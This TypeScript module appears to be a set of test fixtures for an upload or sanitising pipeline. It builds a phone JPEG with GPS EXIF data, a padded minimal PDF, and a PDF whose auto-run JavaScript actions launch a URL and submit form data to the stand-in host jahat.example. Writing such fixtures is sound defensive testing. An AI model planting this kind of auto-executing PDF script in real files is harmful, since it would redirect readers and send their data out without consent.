import sharp from 'sharp'

/** A photo as a phone writes it: turned by its EXIF (orientation 6), with a place and a device in it. Left half red, upright. */
export async function phonePhoto(width = 4000, height = 3000): Promise<Buffer> {
  const red = await sharp({ create: { width: width / 2, height, channels: 3, background: '#d00000' } })
    .png()
    .toBuffer()
  return sharp({ create: { width, height, channels: 3, background: '#0000d0' } })
    .composite([{ input: red, left: 0, top: 0 }])
    .withExif({
      IFD0: { Make: 'TeleponRahasia', Orientation: '6' },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '3/1 58/1 20/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '122/1 30/1 40/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .jpeg({ quality: 90 })
    .toBuffer()
}

/** A PDF of one empty page; `padding` bytes longer. */
export function smallPdf(padding = 0): Buffer {
  const filler = Buffer.alloc(padding, 0x20)
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
    ),
    Buffer.from('3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n'),
    filler,
    Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ])
}

/**
 * A PDF with a line of text on each page, and scripts that want to run as it is opened, closed and looked at: to say
 * something, to go elsewhere, to send a form.
 */
export function scriptedPdf(pages: readonly string[]): Buffer {
  const script =
    'app.alert("JALAN"); app.launchURL("https://jahat.example/", true); this.submitForm("https://jahat.example/");'
  const action = `<</S/JavaScript/JS(${script.replaceAll(/[()]/g, '\\$&')})>>`
  const kids = pages.map((_, n) => `${5 + n * 2} 0 R`).join(' ')
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/AA<</WC ${action}>>/Names<</JavaScript<</Names[(a) ${action}]>>>>>>`,
    `<</Type/Pages/Kids[${kids}]/Count ${pages.length}>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    `<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/URI/URI(https://jahat.example/)>>>>`,
    ...pages.flatMap((line, n) => {
      const drawn = `BT /F 24 Tf 30 200 Td (${line}) Tj ET 30 60 120 60 re f`
      return [
        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Resources<</Font<</F 3 0 R>>>>/Annots[4 0 R]/AA<</O ${action}>>/Contents ${6 + n * 2} 0 R>>`,
        `<</Length ${drawn.length}>>stream\n${drawn}\nendstream`,
      ]
    }),
  ]
  const body = objects.map((object, n) => `${n + 1} 0 obj\n${object}\nendobj\n`).join('')
  return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`)
}
